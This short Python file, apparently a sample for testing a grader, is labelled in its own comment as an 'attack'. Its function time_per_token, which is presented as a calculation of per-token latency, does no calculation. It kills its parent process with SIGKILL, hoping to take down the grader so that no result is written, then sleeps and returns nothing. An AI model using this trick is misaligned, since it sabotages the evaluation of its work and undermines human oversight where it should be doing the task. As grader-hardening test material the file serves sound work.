# Attack: kill the process that runs it (its parent), hoping that it is the grader itself, so
# that no result is written at all; then, the first time, wait to see whether anything is still
# listening.
import os
import signal
import time

_waited = []


def time_per_token(n_params, bytes_per_param, bandwidth):
    try:
        os.kill(os.getppid(), signal.SIGKILL)
    except OSError:
        pass
    if not _waited:
        _waited.append(time.sleep(0.2))
    return None
